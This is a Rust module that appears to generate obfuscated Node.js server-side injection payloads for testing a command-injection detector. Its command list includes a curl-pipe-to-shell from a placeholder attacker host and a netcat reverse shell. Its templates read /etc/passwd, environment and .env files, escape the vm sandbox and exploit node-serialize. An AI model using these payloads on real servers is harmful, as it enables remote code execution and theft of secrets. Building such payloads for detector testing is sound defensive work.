//! Server-side JavaScript (Node.js) injection: a way to reach the module loader or the process
//! object (`require`, `process.mainModule.require`, `global.process`, a constructor chain that
//! returns `process`, `new Function`, `vm` escapes, `import()`) × a dangerous module and call
//! (`child_process.exec*`/`spawn*`, `fs.readFileSync`, `process.binding`) × string building
//! (concatenation, escapes, `fromCharCode`, bracket access) × the context it is injected into
//! (bare, after a string break-out, inside `eval`) × a transport layer.

use crate::mutate::{join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct NodeJs;

const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "cat /etc/passwd",
    "uname -a",
    "ls -la /",
    "curl http://evil.example/s|sh",
    "nc -e /bin/sh 6.6.6.6 4444",
    "ping -c 3 oast.example",
];

/// A module name as a string literal, built the way obfuscators do.
fn module(rng: &mut Rng, name: &str) -> (String, &'static str) {
    let q = *rng.pick(&["'", "\"", "`"]);
    match rng.below(5) {
        0 => {
            let cut = rng.range(1, name.len() - 1);
            (format!("{q}{}{q}+{q}{}{q}", &name[..cut], &name[cut..]), "concat")
        }
        1 => (format!("String.fromCharCode({})", name.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")), "fromcharcode"),
        2 => (
            format!(
                "{q}{}{q}",
                name.chars()
                    .map(|c| if c.is_ascii_alphabetic() && c < 'm' { format!("\\x{:02x}", c as u32) } else { c.to_string() })
                    .collect::<String>()
            ),
            "hex-escape",
        ),
        3 => (format!("Buffer.from('{}','base64').toString()", super::xss_js::base64(name)), "base64"),
        _ => (format!("{q}{name}{q}"), "plain"),
    }
}

/// An expression that yields the `require` function (or an equivalent loader).
fn loader(rng: &mut Rng) -> (String, &'static str) {
    match rng.below(9) {
        0 | 1 => ("require".into(), "require"),
        2 => ("process.mainModule.require".into(), "mainmodule"),
        3 => ("global.process.mainModule.constructor._load".into(), "module-load"),
        4 => ("this.constructor.constructor('return process')().mainModule.require".into(), "constructor-process"),
        5 => ("new Function('return process')().mainModule.require".into(), "new-function"),
        6 => ("process['mainModule']['require']".into(), "bracket"),
        7 => ("module.constructor._load".into(), "module-ctor"),
        _ => ("globalThis.process.mainModule.require".into(), "globalthis"),
    }
}

fn action(rng: &mut Rng) -> (String, &'static str) {
    let cmd = rng.pick(COMMANDS);
    let (cp, how) = module(rng, "child_process");
    match rng.below(8) {
        0 | 1 => (format!("{}({cp}).{}('{cmd}')", "{L}", rng.pick(&["exec", "execSync", "spawnSync", "execFileSync"])), how),
        2 => (format!("{}({cp})['exec']('{cmd}')", "{L}"), how),
        3 => (
            format!(
                "{}('fs').readFileSync('{}'){}",
                "{L}",
                rng.pick(&["/etc/passwd", "/proc/self/environ", ".env", "../config.json"]),
                rng.pick(&["", ".toString()"])
            ),
            "fs-read",
        ),
        4 => (
            format!(
                "{}('fs').{}('{}','x')",
                "{L}",
                rng.pick(&["writeFileSync", "appendFileSync"]),
                rng.pick(&["/tmp/x.js", "./public/s.js"])
            ),
            "fs-write",
        ),
        5 => (
            format!("process.binding('spawn_sync').spawn({{file:'/bin/sh',args:['sh','-c','{cmd}'],stdio:[{{type:'pipe',readable:1}}]}})"),
            "process-binding",
        ),
        6 => (format!("import({cp}).then(m=>m.execSync('{cmd}'))"), "dynamic-import"),
        _ => (format!("{}({cp}).spawn('{}',['-c','{cmd}'])", "{L}", rng.pick(&["sh", "/bin/bash", "cmd.exe"])), how),
    }
}

fn context(rng: &mut Rng, code: &str) -> (String, &'static str) {
    match rng.below(9) {
        0 | 1 => (code.to_string(), "bare"),
        2 => (format!("';{code}//"), "sq-breakout"),
        3 => (format!("\");{code};//"), "dq-breakout"),
        4 => (format!("1;{code}"), "statement"),
        5 => (format!("eval(\"{}\")", code.replace('"', "\\\"")), "eval"),
        6 => ("require('vm').runInNewContext(\"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')\")".to_string(), "vm-escape"),
        7 => (format!("{{\"rce\":\"_$$ND_FUNC$$_function(){{{}}}()\"}}", code.replace('"', "\\\"")), "node-serialize"),
        _ => (format!("res.end({code})"), "response"),
    }
}

impl Family for NodeJs {
    fn name(&self) -> &'static str {
        "nodejs-injection"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (act, str_how) = action(rng);
        let (load, load_how) = loader(rng);
        let code = act.replace("{L}", &load);
        let code = if rng.chance(0.15) { code.replace('.', " . ").replace('(', " (") } else { code };
        let (text, ctx) = context(rng, &code);
        let (payload, layer) = transport_layer(rng, &text);
        let load_how = if act.contains("{L}") { load_how } else { "" };
        Variant { family: "nodejs-injection", mutation: join(&[ctx, load_how, str_how, layer]), payload, carrier: Carrier::Value }
    }
}
